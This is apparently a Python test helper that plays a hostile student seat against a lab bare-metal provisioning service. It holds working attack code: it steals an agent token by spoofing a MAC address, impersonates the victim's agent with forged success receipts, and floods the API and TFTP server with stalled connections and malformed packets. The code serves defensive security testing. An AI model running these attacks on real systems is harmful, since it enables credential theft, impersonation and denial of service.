"""A hostile seat: a student who is root on a PC of the room, run inside that PC's network
namespace by the tests (tests/test_hostile_seats.py). It steals a deploy's agent token by
asking first with the victim's MAC, then plays the victim's agent: it heartbeats with a
callback URL of its choosing and answers the conductor's commands its way.

    python -m tests.hostile_seat --api URL --mac MAC --mode MODE [--callback URL]
        [--sha256 HEX] [--port 9999]

Modes: ``steal`` only takes the token and prints it; ``reflect`` answers every command
with HTTP 400 and a body that must never reach labmetal's last_error; ``fake-receipt``
claims every command succeeded, with the image's public sha256 as its "receipt". Each
event is printed on its own line (``token ...``, ``heartbeat 202``, ``command write_image``).

``flood`` (with ``--tftp HOST:PORT``) attacks the service itself instead: it holds
``--connections`` TCP connections to the API open with a request that never ends, asks
for the victim's boot script in a loop (printing ``script sanboot`` if it ever gets the
session's), and sends TFTP read requests as fast as it can (missing files, bad options,
garbage), until it is stopped.
"""
from __future__ import annotations

import argparse
import json
import socket
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import requests

REFLECTED = "REFLECTED-BODY-FROM-THE-SEAT"


def say(line: str) -> None:
    print(line, flush=True)


def steal(api: str, mac: str) -> tuple[str, str]:
    """Ask with the victim's MAC until labmetal hands out the token: (node uuid, token)."""
    while True:
        try:
            answer = requests.get(f"{api}/v1/lookup", params={"addresses": mac}, timeout=10)
        except requests.RequestException as error:
            say(f"lookup failed {type(error).__name__}")
            time.sleep(0.5)
            continue
        if answer.status_code == 200:
            token = answer.json()["config"]["agent_token"]
            if token != "******":
                return answer.json()["node"]["uuid"], token
        if answer.status_code in (403, 409, 429):
            say(f"lookup {answer.status_code}")
        time.sleep(0.02)


def agent(mode: str, sha256: str, port: int) -> ThreadingHTTPServer:
    commands: dict[str, dict] = {}

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def reply(self, status: int, body: object) -> None:
            data = body.encode() if isinstance(body, str) else json.dumps(body).encode()
            self.send_response(status)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", 0))))
            say(f"command {body.get('name')}")
            if mode == "reflect":
                self.reply(400, REFLECTED)
                return
            result = {"raw_sha256": sha256} if "image" in body["name"] else {}
            if body["name"] == "prove_disk":
                result = {"hmac": "0" * 64}  # what a seat that wrote nothing can say
            command = {"id": str(len(commands) + 1), "name": body["name"],
                       "status": "succeeded", "progress": {"done": 1, "total": 1},
                       "error": None, "result": result}
            commands[command["id"]] = command
            self.reply(202, command)

        def do_GET(self) -> None:
            if mode == "reflect":
                self.reply(400, REFLECTED)
                return
            command = commands.get(self.path.rsplit("/", 1)[-1])
            self.reply(200 if command else 404, command or {"error": "no such command"})

    server = ThreadingHTTPServer(("0.0.0.0", port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def flood(api: str, mac: str, tftp: str, connections: int) -> None:
    parts = urlsplit(api)
    held = []
    for _ in range(connections):
        try:
            held.append(socket.create_connection((parts.hostname, parts.port), timeout=10))
            held[-1].sendall(b"GET /v1 HTTP/1.1\r\nHost: labmetal\r\n")  # never ended
        except OSError as error:
            say(f"connection refused after {len(held)}: {type(error).__name__}")
            break
    say(f"holding {len(held)} connections")

    def scripts() -> None:
        url = f"{api}/boot/{mac.replace(':', '-')}.ipxe"
        asked = 0
        while True:
            try:
                text = requests.get(url, timeout=10).text
                if "sanboot" in text:
                    say("script sanboot")
            except requests.RequestException:
                pass
            asked += 1
            if asked % 100 == 0:
                say(f"scripts {asked}")

    threading.Thread(target=scripts, daemon=True).start()
    host, port = tftp.rsplit(":", 1)
    packets = [b"\x00\x01missing-file\x00octet\x00",
               b"\x00\x01undionly.kpxe\x00octet\x00blksize\x00abc\x00",
               b"\x00\x01" + b"a" * 60000 + b"\x00octet\x00",
               b"\x00\x01undionly.kpxe\x00octet\x00",  # a real file, never acknowledged
               b"\x00\x05garbage"]
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        while True:
            for packet in packets:
                try:
                    udp.sendto(packet, (host, int(port)))
                except OSError:
                    pass
                sent += 1
            if sent % 5000 == 0:
                say(f"tftp {sent}")
            time.sleep(0.001)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--api", required=True)
    parser.add_argument("--mac", required=True)
    parser.add_argument("--mode", choices=("steal", "reflect", "fake-receipt", "flood"),
                        required=True)
    parser.add_argument("--callback", default="")
    parser.add_argument("--sha256", default="0" * 64)
    parser.add_argument("--port", type=int, default=9999)
    parser.add_argument("--tftp", default="")
    parser.add_argument("--connections", type=int, default=300)
    args = parser.parse_args(argv)
    if args.mode == "flood":
        flood(args.api, args.mac, args.tftp, args.connections)
        return 0
    node, token = steal(args.api, args.mac)
    say(f"token {node}")
    if args.mode == "steal":  # keeps the token; the test stops it
        while True:
            time.sleep(3600)
    agent(args.mode, args.sha256, args.port)
    say("agent listening")
    callback = args.callback or f"http://127.0.0.1:{args.port}"
    while True:
        try:
            answer = requests.post(f"{args.api}/v1/heartbeat/{node}", timeout=10, json={
                "callback_url": callback, "agent_token": token})
            say(f"heartbeat {answer.status_code}")
        except requests.RequestException as error:
            say(f"heartbeat failed {type(error).__name__}")
        time.sleep(1.0)


if __name__ == "__main__":
    sys.exit(main())
